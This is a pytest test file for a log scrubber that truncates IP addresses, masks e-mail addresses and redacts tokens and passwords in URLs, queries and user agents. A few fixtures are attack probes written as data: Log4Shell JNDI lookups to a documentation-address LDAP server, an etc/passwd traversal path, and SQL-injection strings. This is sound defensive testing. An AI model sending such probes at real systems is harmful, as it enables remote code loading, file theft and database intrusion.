"""Scrubbing of paths, queries, referrers and user agents: a row per behaviour.

Fixtures use documentation addresses only (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24,
2001:db8::/32) and example.com / example.org.
"""

from __future__ import annotations

import random
import time

import pyarrow as pa
import pytest

from transforms.scrub import DEFAULT_SECRET_PARAMS, SECRET_PLACEHOLDER, Scrubber

try:
    from hypothesis import given
    from hypothesis import strategies as st
except ImportError:  # not in the project's venv; the seeded corpus below covers the same ground
    given = None

SCRUBBER = Scrubber()
CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36"
)

TEXT_CASES = [
    # IPv4
    pytest.param("/admin/192.0.2.55/edit", "/admin/192.0.2.0/24/edit", id="v4-in-path"),
    pytest.param(
        "Mozilla/5.0 (compatible; ExampleBot/2.1; from 203.0.113.9)",
        "Mozilla/5.0 (compatible; ExampleBot/2.1; from 203.0.113.0/24)",
        id="v4-in-user-agent",
    ),
    pytest.param("192.0.2.55", "192.0.2.0/24", id="v4-whole-value"),
    pytest.param(
        "ExampleApp/203.0.113.4 (build)", "ExampleApp/203.0.113.0/24 (build)", id="v4-shaped-version-fails-closed"
    ),
    pytest.param("from 192.0.2.55.", "from 192.0.2.0/24.", id="v4-before-full-stop"),
    pytest.param("192.0.2.55:8080", "192.0.2.0/24:8080", id="v4-with-port"),
    pytest.param("192.0.2.55.example.com", "192.0.2.0/24.example.com", id="v4-in-hostname"),
    pytest.param("/ip_192.0.2.55", "/ip_192.0.2.0/24", id="v4-after-underscore"),
    pytest.param("192.000.002.055", "192.0.2.0/24", id="v4-leading-zeros-read-as-decimal"),
    pytest.param("/ip/192%2E0%2E2%2E55", "/ip/192.0.2.0/24", id="v4-percent-encoded-dots"),
    pytest.param("%20192.0.2.55", "%20192.0.2.0/24", id="v4-after-encoded-space"),
    pytest.param("192.0.2.55%41", "192.0.2.0/24%41", id="v4-before-escape-caught-raw"),
    pytest.param(
        "${jndi:ldap://203.0.113.66:1389/a}", "${jndi:ldap://203.0.113.0/24:1389/a}", id="v4-in-log4shell-probe"
    ),
    pytest.param("192.0.2.0/24", "192.0.2.0/24", id="v4-already-truncated-kept"),
    # not IPv4
    pytest.param("Chrome/120.0.6099.109", "Chrome/120.0.6099.109", id="version-with-part-over-255"),
    pytest.param(CHROME, CHROME, id="reduced-chrome-version-N.0.0.0"),
    pytest.param("192.0.2.256", "192.0.2.256", id="octet-over-255"),
    pytest.param("192.0.2.1.5", "192.0.2.1.5", id="five-dotted-numbers"),
    pytest.param("5.192.0.2.1", "5.192.0.2.1", id="five-dotted-numbers-address-last"),
    pytest.param("v192.0.2.1", "v192.0.2.1", id="v4-glued-to-letter-before"),
    pytest.param("192.0.2.1a", "192.0.2.1a", id="v4-glued-to-letter-after"),
    pytest.param("1192.0.2.1", "1192.0.2.1", id="v4-glued-to-digit"),
    # IPv6
    pytest.param("/peer/2001:db8:ab12::7/status", "/peer/2001:db8:ab12::/48/status", id="v6-compressed"),
    pytest.param("2001:0db8:ab12:cd34:0000:0000:0000:0001", "2001:db8:ab12::/48", id="v6-full"),
    pytest.param("2001:DB8:AB12::1", "2001:db8:ab12::/48", id="v6-upper-case"),
    pytest.param("http://[2001:db8:ab12::1]:8080/", "http://[2001:db8:ab12::/48]:8080/", id="v6-bracketed"),
    pytest.param("::ffff:192.0.2.7", "192.0.2.0/24", id="v6-mapped-v4-shown-as-v4"),
    pytest.param("2001:db8:ab12::192.0.2.7", "2001:db8:ab12::/48", id="v6-embedded-v4"),
    pytest.param("from 2001:db8:ab12::7.", "from 2001:db8:ab12::/48.", id="v6-before-full-stop"),
    pytest.param("2001:db8:ab12::7%25eth0", "2001:db8:ab12::/48%25eth0", id="v6-with-zone"),
    pytest.param("/ip/2001%3Adb8%3Aab12%3A%3A7", "/ip/2001:db8:ab12::/48", id="v6-percent-encoded-colons"),
    pytest.param("2001:db8:ab12::/48", "2001:db8:ab12::/48", id="v6-already-truncated-kept"),
    # not IPv6
    pytest.param("12:30:45", "12:30:45", id="time"),
    pytest.param("2026-11-24T12:30:45.123Z", "2026-11-24T12:30:45.123Z", id="timestamp"),
    pytest.param("a:b", "a:b", id="one-colon"),
    pytest.param("00:1a:2b:3c:4d:5e", "00:1a:2b:3c:4d:5e", id="six-hex-groups"),
    pytest.param("/perldoc/File::Basename", "/perldoc/File::Basename", id="module-path-separator"),
    pytest.param("/x/::/y", "/x/::/y", id="bare-double-colon"),
    # e-mail
    pytest.param("/users/alice@example.com/profile", "/users/[email]/profile", id="email-in-path"),
    pytest.param("/users/alice%40example.com/", "/users/[email]/", id="email-percent-encoded-at"),
    pytest.param("/u/alice%2Btag%40example.com/caf%C3%A9", "/u/[email]/caf%C3%A9", id="email-fully-percent-encoded"),
    pytest.param("/u/alice%2540example.com", "/u/[email]", id="email-double-encoded"),
    pytest.param("first.last+tag@mail.example.org", "[email]", id="email-dotted-local-and-tag"),
    pytest.param("/avatars/alice@example.com.png", "/avatars/[email].png", id="email-with-file-suffix"),
    pytest.param(
        "Mozilla/5.0 (compatible; ExampleBot/1.0; +mailto:bot@example.org)",
        "Mozilla/5.0 (compatible; ExampleBot/1.0; +mailto:[email])",
        id="email-in-user-agent",
    ),
    pytest.param("/img/logo@2x.png", "/img/logo@2x.png", id="retina-image-no-email"),
    pytest.param("/npm/react@18.2.0/umd/react.js", "/npm/react@18.2.0/umd/react.js", id="package-version-no-email"),
    pytest.param("/@alice/posts", "/@alice/posts", id="handle-no-email"),
    # credentials and path parameters
    pytest.param(
        "/go/http://bob:hunter2@www.example.com/", "/go/http://[redacted]@www.example.com/", id="url-credentials"
    ),
    pytest.param("/cart;jsessionid=1A2B3C4D", "/cart;jsessionid=[redacted]", id="secret-path-parameter"),
    pytest.param("/cart;color=red;sid=9f8e", "/cart;color=red;sid=[redacted]", id="only-secret-path-parameter"),
    # benign, byte for byte
    pytest.param("/static/app.3f9c2a1b.js", "/static/app.3f9c2a1b.js", id="static-asset"),
    pytest.param("/api/v1/items/12345", "/api/v1/items/12345", id="api-path"),
    pytest.param("/search/caf%C3%A9%20cr%C3%A8me", "/search/caf%C3%A9%20cr%C3%A8me", id="percent-encoded-benign"),
    pytest.param("/static/..%2f..%2fetc%2fpasswd", "/static/..%2f..%2fetc%2fpasswd", id="traversal-probe-kept"),
    pytest.param("/bad%zz%4", "/bad%zz%4", id="invalid-escapes-kept"),
    pytest.param("", "", id="empty"),
    pytest.param(
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
        id="firefox",
    ),
    pytest.param(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
        "Version/18.1 Mobile/15E148 Safari/604.1",
        id="safari-ios",
    ),
    pytest.param("Apache-HttpClient/4.5.14 (Java/17.0.9)", "Apache-HttpClient/4.5.14 (Java/17.0.9)", id="java-client"),
    pytest.param("My%20App/1.0 CFNetwork/1410.0.3", "My%20App/1.0 CFNetwork/1410.0.3", id="encoded-app-name"),
]

QUERY_CASES = [
    pytest.param("host=198.51.100.7", "host=198.51.100.0/24", id="v4-in-value"),
    pytest.param("ip=2001:db8:4a1f:7c::3e1", "ip=2001:db8:4a1f::/48", id="v6-in-value"),
    pytest.param("ip=%5B2001%3Adb8%3A%3A1%5D", "ip=[2001:db8::/48]", id="v6-bracketed-encoded"),
    pytest.param("q=x&token=abc", "q=x&token=[redacted]", id="secret-value"),
    pytest.param("user=alice%40example.com&page=2", "user=[email]&page=2", id="email-in-value"),
    pytest.param("user=alice@example.com", "user=[email]", id="email-in-value-unencoded"),
    pytest.param("alice@example.com", "[email]", id="email-without-equals"),
    pytest.param("q=caf%C3%A9+192.0.2.1", "q=caf%C3%A9%20192.0.2.0/24", id="changed-value-requoted"),
    pytest.param("q=a;b&token=t;u", "q=a;b&token=[redacted]", id="semicolon-stays-in-value"),
    pytest.param("token=", "token=", id="empty-secret-kept-empty"),
    pytest.param("to%6Ben=abc", "to%6Ben=[redacted]", id="percent-encoded-name"),
    pytest.param("user.password=p&x-api-key=k", "user.password=[redacted]&x-api-key=[redacted]", id="suffix-names"),
    pytest.param(
        "token=ab12&email=admin%40example.com%27%20OR%20%271%27=%271",
        "token=[redacted]&email=[redacted]",
        id="sql-injection-with-email-param",
    ),
    pytest.param(
        "redirect_uri=https%3A%2F%2Fwww.example.com%2Fcb%3Fcode%3D1%26access_token%3Dabc",
        "redirect_uri=https://www.example.com/cb%3Fcode%3D1%26access_token%3D[redacted]",
        id="nested-url-token",
    ),
    pytest.param("next=%2Fcb%23access_token%3Dabc", "next=/cb%23access_token%3D[redacted]", id="nested-fragment-token"),
    pytest.param(
        "x=%24%7Bjndi%3Aldap%3A%2F%2F203.0.113.66%3A1389%2Fa%7D",
        "x=$%7Bjndi:ldap://203.0.113.0/24:1389/a%7D",
        id="encoded-log4shell-probe",
    ),
    # benign, byte for byte
    pytest.param("week=2026-W48&page=2", "week=2026-W48&page=2", id="plain"),
    pytest.param("since=2026-11-24T10:00:00Z", "since=2026-11-24T10:00:00Z", id="time-in-value"),
    pytest.param("q=caf%C3%A9+cr%C3%A8me", "q=caf%C3%A9+cr%C3%A8me", id="encoded-search"),
    pytest.param(
        "next=%2Fapp%2Ftimesheets%3Fweek%3D2026-W48",
        "next=%2Fapp%2Ftimesheets%3Fweek%3D2026-W48",
        id="nested-url-benign",
    ),
    pytest.param("a=b=c=d=e=f", "a=b=c=d=e=f", id="deep-equals-benign"),
    pytest.param("x=YWJj==", "x=YWJj==", id="base64-padding"),
    pytest.param("id=1%27%20OR%201=1--", "id=1%27%20OR%201=1--", id="sql-injection-probe-kept"),
    pytest.param(
        "keyword=shoes&sidebar=1&author=x", "keyword=shoes&sidebar=1&author=x", id="words-holding-short-names"
    ),
    pytest.param("a=1&&b=%zz", "a=1&&b=%zz", id="empty-piece-and-bad-escape"),
]

URL_CASES = [
    pytest.param(
        "https://www.example.com/search?q=x&token=abc#frag",
        "https://www.example.com/search?q=x&token=[redacted]#frag",
        id="referrer-with-token-and-fragment",
    ),
    pytest.param(
        "https://app.example.com/reset-password?token=ab12&email=x%40example.com",
        "https://app.example.com/reset-password?token=[redacted]&email=[redacted]",
        id="password-reset-link",
    ),
    pytest.param(
        "https://app.example.com/app/users/jan@example.com",
        "https://app.example.com/app/users/[email]",
        id="email-in-path",
    ),
    pytest.param(
        "https://www.example.com/cb#access_token=abc&state=1",
        "https://www.example.com/cb#access_token=[redacted]&state=1",
        id="oauth-token-in-fragment",
    ),
    pytest.param("https://bob:pw@www.example.com/", "https://[redacted]@www.example.com/", id="credentials"),
    pytest.param(
        "http://192.0.2.55:8080/admin?ip=198.51.100.7",
        "http://192.0.2.0/24:8080/admin?ip=198.51.100.0/24",
        id="address-as-host-and-value",
    ),
    pytest.param("/login?next=%2Fapp&password=hunter2", "/login?next=%2Fapp&password=[redacted]", id="path-with-query"),
    # benign, byte for byte
    pytest.param("-", "-", id="no-referrer"),
    pytest.param("https://www.example.com/", "https://www.example.com/", id="plain-referrer"),
    pytest.param(
        "https://app.example.com/app/timesheets?week=2026-W48",
        "https://app.example.com/app/timesheets?week=2026-W48",
        id="referrer-with-benign-query",
    ),
    pytest.param(
        "https://www.example.com/docs#section-2", "https://www.example.com/docs#section-2", id="benign-fragment"
    ),
]


@pytest.mark.parametrize(("value", "expected"), TEXT_CASES)
def test_text(value: str, expected: str) -> None:
    assert SCRUBBER.text(value) == expected


@pytest.mark.parametrize(("value", "expected"), QUERY_CASES)
def test_query(value: str, expected: str) -> None:
    assert SCRUBBER.query(value) == expected


@pytest.mark.parametrize(("value", "expected"), URL_CASES)
def test_url(value: str, expected: str) -> None:
    assert SCRUBBER.url(value) == expected


@pytest.mark.parametrize(
    ("v4_bits", "value", "expected"),
    [
        pytest.param(0, "/a/192.0.2.55", "/a/0.0.0.0/0", id="v4-0"),
        pytest.param(8, "/a/192.0.2.55", "/a/192.0.0.0/8", id="v4-8"),
        pytest.param(16, "/a/192.0.2.55", "/a/192.0.0.0/16", id="v4-16"),
        pytest.param(24, "/a/192.0.2.55", "/a/192.0.2.0/24", id="v4-24"),
        pytest.param(32, "/a/192.0.2.55", "/a/192.0.2.55/32", id="v4-32"),
        pytest.param(32, "Chrome/131.0.0.0", "Chrome/131.0.0.0", id="N.0.0.0-kept-from-8-bits"),
        pytest.param(4, "Chrome/131.0.0.0", "Chrome/128.0.0.0/4", id="N.0.0.0-replaced-below-8-bits"),
    ],
)
def test_v4_prefix_lengths(v4_bits: int, value: str, expected: str) -> None:
    assert Scrubber(v4_bits=v4_bits).text(value) == expected


@pytest.mark.parametrize(
    ("v6_bits", "expected"),
    [
        pytest.param(32, "2001:db8::/32", id="v6-32"),
        pytest.param(48, "2001:db8:ab12::/48", id="v6-48"),
        pytest.param(64, "2001:db8:ab12:cd34::/64", id="v6-64"),
        pytest.param(128, "2001:db8:ab12:cd34::7/128", id="v6-128"),
    ],
)
def test_v6_prefix_lengths(v6_bits: int, expected: str) -> None:
    assert Scrubber(v6_bits=v6_bits).text("2001:db8:ab12:cd34::7") == expected


def _name_forms(secret: str) -> list[tuple[str, str]]:
    camel = secret.split("_")[0] + "".join(part.title() for part in secret.split("_")[1:])
    return [
        (secret, "exact"),
        (secret.upper(), "upper-case"),
        (f"access_{secret}", "after-underscore"),
        (f"x-{secret.replace('_', '-')}", "after-hyphen"),
        (f"user.{secret}", "after-dot"),
        (f"user[{secret}]", "in-brackets"),
        ("my" + camel[0].upper() + camel[1:], "camel-case"),
    ]


@pytest.mark.parametrize(
    "name",
    [
        pytest.param(name, id=f"{secret}-{form}")
        for secret in DEFAULT_SECRET_PARAMS
        for name, form in _name_forms(secret)
    ],
)
def test_each_secret_param_and_its_suffix_forms_are_redacted(name: str) -> None:
    assert SCRUBBER.query(f"page=2&{name}=v4lue") == f"page=2&{name}={SECRET_PLACEHOLDER}"


@pytest.mark.parametrize(
    ("name", "secret"),
    [
        pytest.param("access_token", True, id="long-name-as-suffix"),
        pytest.param("csrftoken", True, id="long-name-inside-word"),
        pytest.param("token_type", True, id="long-name-as-prefix"),
        pytest.param("password_confirmation", True, id="password-confirmation"),
        pytest.param("new_password2", True, id="trailing-digit"),
        pytest.param("apikey", True, id="multi-word-name-run-together"),
        pytest.param("X-API-KEY", True, id="header-style"),
        pytest.param("jsessionid", True, id="java-session"),
        pytest.param("PHPSESSID", True, id="php-session"),
        pytest.param("session_id", True, id="session-id"),
        pytest.param("sessionId", True, id="session-id-camel"),
        pytest.param("client_secret", True, id="oauth-client-secret"),
        pytest.param("oauth", True, id="auth-ending-word"),
        pytest.param("key_id", True, id="short-name-ending-a-word"),
        pytest.param("pass+word", True, id="plus-as-separator"),
        pytest.param("e%6Dail", True, id="percent-encoded"),
        pytest.param("keyword", False, id="short-name-starting-a-word"),
        pytest.param("sidebar", False, id="sid-starting-a-word"),
        pytest.param("inside", False, id="sid-inside-a-word"),
        pytest.param("author", False, id="auth-starting-a-word"),
        pytest.param("page", False, id="page"),
        pytest.param("q", False, id="search"),
        pytest.param("", False, id="empty"),
        pytest.param("---", False, id="separators-only"),
        pytest.param("tökén", False, id="non-ascii-letters-separate"),
    ],
)
def test_secret_name_rule(name: str, secret: bool) -> None:
    assert SCRUBBER.is_secret(name) is secret


def test_custom_secret_params_replace_the_defaults() -> None:
    scrubber = Scrubber(secret_params=("pin", "Client-Code"))
    assert scrubber.query("pin=1234&client_code=77&token=abc") == "pin=[redacted]&client_code=[redacted]&token=abc"


def test_no_secret_params() -> None:
    assert Scrubber(secret_params=()).query("token=abc&ip=192.0.2.1") == "token=abc&ip=192.0.2.0/24"


@pytest.mark.parametrize(
    ("kwargs", "error"),
    [
        pytest.param({"v4_bits": 33}, ValueError, id="v4-too-long"),
        pytest.param({"v6_bits": -1}, ValueError, id="v6-negative"),
        pytest.param({"secret_params": "token"}, TypeError, id="one-string-not-a-tuple"),
    ],
)
def test_bad_settings_are_refused(kwargs: dict, error: type[Exception]) -> None:
    with pytest.raises(error):
        Scrubber(**kwargs)


# --- columns ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kind", "values", "expected"),
    [
        pytest.param(
            "text",
            ["/static/app.js", None, "/users/alice@example.com", "/admin/192.0.2.55", None, "/users/alice@example.com"],
            ["/static/app.js", None, "/users/[email]", "/admin/192.0.2.0/24", None, "/users/[email]"],
            id="text-with-nulls-and-repeats",
        ),
        pytest.param(
            "query",
            ["page=2", "token=abc", None, "ip=2001:db8:ab12::7", ""],
            ["page=2", "token=[redacted]", None, "ip=2001:db8:ab12::/48", ""],
            id="query-with-null-and-empty",
        ),
        pytest.param(
            "url",
            ["-", "https://www.example.com/search?q=x&token=abc#frag", None],
            ["-", "https://www.example.com/search?q=x&token=[redacted]#frag", None],
            id="url-with-null",
        ),
        pytest.param("text", [None, None], [None, None], id="only-nulls"),
        pytest.param("text", [], [], id="empty"),
    ],
)
@pytest.mark.parametrize("arrow_type", [pa.string(), pa.large_string()], ids=["string", "large_string"])
def test_column(kind: str, values: list, expected: list, arrow_type: pa.DataType) -> None:
    result = SCRUBBER.column(pa.array(values, arrow_type), kind)
    assert result.type == arrow_type
    assert result.to_pylist() == expected


def test_column_of_benign_values_is_returned_without_a_copy() -> None:
    values = pa.array(["/static/app.js", CHROME, None, "/api/v1/items/12345"])
    assert SCRUBBER.column(values, "text") is values


def test_column_accepts_a_chunked_array() -> None:
    values = pa.chunked_array([["/a/192.0.2.55"], [None, "/b"]])
    assert SCRUBBER.column(values, "text").to_pylist() == ["/a/192.0.2.0/24", None, "/b"]


def test_column_agrees_with_the_scalar_scrubbers() -> None:
    cases = {"text": TEXT_CASES, "query": QUERY_CASES, "url": URL_CASES}
    for kind, rows in cases.items():
        values = [row.values[0] for row in rows]
        expected = [row.values[1] for row in rows]
        assert SCRUBBER.column(pa.array(values), kind).to_pylist() == expected, kind


def test_unknown_kind_is_refused() -> None:
    with pytest.raises(ValueError, match="kind"):
        SCRUBBER.column(pa.array(["/"]), "path")


# --- properties over every input above and a seeded corpus ------------------------------------

# Pieces that meet at the edges of every rule; random strings of them find the corners.
_FRAGMENTS = (
    "192.0.2.55", "203.0.113.9", "131.0.0.0", "2001:db8::1", "::ffff:192.0.2.7", "[", "]", "alice", "@", "%40",
    "example.com", ".png", "%2E", "%3A", "%25", "%2B", "%3D", "%26", "%3F", "%23", "token", "Key", "sid", "pass",
    "word", "=", "&", "?", "#", ";", "/", "//", ".", ":", "+", " ", "_", "-", "0", "1", "255", "x", "%", "%zz",
    "\x00", "\ufffd", "é", "K",
)  # fmt: skip


def _corpus() -> list[str]:
    rng = random.Random(20261124)
    generated = ["".join(rng.choices(_FRAGMENTS, k=rng.randint(1, 12))) for _ in range(3000)]
    tabled = [row.values[0] for rows in (TEXT_CASES, QUERY_CASES, URL_CASES) for row in rows]
    return tabled + generated


CORPUS = _corpus()
SCRUBBERS = [
    pytest.param(Scrubber(), id="defaults"),
    pytest.param(Scrubber(v4_bits=4, v6_bits=128), id="v4-4-v6-128"),
    pytest.param(Scrubber(v4_bits=32, secret_params=("pin", "client_code")), id="v4-32-custom-secrets"),
]
KINDS = ("text", "query", "url")


@pytest.mark.parametrize("scrubber", SCRUBBERS)
@pytest.mark.parametrize("kind", KINDS)
def test_prefilter_never_misses(scrubber: Scrubber, kind: str) -> None:
    """A value the prefilter passes over must be one the Python scrubber leaves as it is."""
    scrub = getattr(scrubber, kind)
    picked = scrubber.candidates(pa.array(CORPUS), kind).to_pylist()
    missed = [value for value, hit in zip(CORPUS, picked, strict=True) if not hit and scrub(value) != value]
    assert missed == []


@pytest.mark.parametrize("kind", KINDS)
def test_scrubbing_twice_changes_nothing_more(kind: str) -> None:
    scrub = getattr(SCRUBBER, kind)
    once = [scrub(row.values[0]) for rows in (TEXT_CASES, QUERY_CASES, URL_CASES) for row in rows]
    assert [value for value in once if scrub(value) != value] == []


# What may stand around an address or e-mail address without hiding it.
_BORDERS = (" ", "/", "=", "(", ")", ";", ",", "_", "[", "]", "%20", "%2F", "+", '"', "'", "<", ">", "|", "\t")
_BEFORE = ("", "x ", *_BORDERS)
_AFTER = ("", " y", *_BORDERS)
_SECRETS = ("192.0.2.55", "2001:db8:ab12::7", "::ffff:192.0.2.7", "alice@example.com", "alice%40example.com")


@pytest.mark.parametrize("secret", _SECRETS)
@pytest.mark.parametrize("kind", KINDS)
def test_nothing_survives_between_any_borders(secret: str, kind: str) -> None:
    scrub = getattr(SCRUBBER, kind)
    survived = [
        (before, after)
        for before in _BORDERS
        for after in _BORDERS
        if "alice" in (out := scrub(f"{before}{secret}{after}")) or "55" in out or "::7" in out or ".7" in out
    ]
    assert survived == []


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("%", id="lone-percent"),
        pytest.param("%E2%82", id="truncated-utf8-escape"),
        pytest.param("\x00192.0.2.1\x00", id="nul"),
        pytest.param("\ufffd192.0.2.1\ufffd%FF", id="replacement-characters"),
        pytest.param("\ud800 alice%40example.com", id="lone-surrogate"),
        pytest.param("a" * 200_000, id="long-word"),
        pytest.param("1." * 100_000, id="long-dotted-run"),
        pytest.param("1:" * 100_000, id="long-colon-run"),
        pytest.param("a=" + "%3D" * 50_000, id="long-nesting-bait"),
        pytest.param("//a@" * 50_000, id="long-credentials-bait"),
        pytest.param("next=" + "%253F%253D" * 1000, id="deep-double-encoding"),
    ],
)
@pytest.mark.parametrize("kind", KINDS)
def test_never_raises_and_stays_linear(value: str, kind: str) -> None:
    started = time.perf_counter()
    assert isinstance(getattr(SCRUBBER, kind)(value), str)
    assert time.perf_counter() - started < 5  # a quadratic rule would take minutes on these


def test_value_python_cannot_requote_fails_closed() -> None:
    assert SCRUBBER.text("\ud800 alice%40example.com") == SECRET_PLACEHOLDER


if given is not None:

    @given(st.text(), st.sampled_from(KINDS))
    def test_prefilter_never_misses_arbitrary_text(value: str, kind: str) -> None:
        scrub = getattr(SCRUBBER, kind)
        try:
            picked = SCRUBBER.candidates(pa.array([value]), kind)[0].as_py()
        except (pa.ArrowInvalid, UnicodeEncodeError):  # surrogates are not UTF-8: no Arrow string holds them
            return
        assert picked or scrub(value) == value

else:

    @pytest.mark.skip(reason="hypothesis is not installed")
    def test_prefilter_never_misses_arbitrary_text() -> None:
        pass
